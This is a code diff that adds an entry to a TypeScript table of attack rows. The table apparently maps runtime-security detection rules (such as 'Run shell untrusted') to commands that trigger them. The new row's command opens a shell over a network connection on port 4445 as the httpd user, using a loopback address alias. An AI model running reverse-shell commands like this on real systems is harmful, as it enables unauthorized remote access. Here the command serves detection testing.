@@ -143,6 +143,14 @@ export const KERNEL_ROWS: readonly AttackRow[] = [
     host: NET_ADMIN,
   },
   {
+    action: 'shell on a connection',
+    upstream: 'Run shell untrusted',
+    file: 'stable',
+    ours: 'Shell on a network connection',
+    does: `ip addr add ${FAR}/32 dev lo && ${as('httpd')} wait 16 shell ${FAR} 4445`,
+    host: NET_ADMIN,
+  },
+  {
     action: 'Kubernetes API',
     upstream: 'Contact K8S API Server From Container',
     file: 'stable',
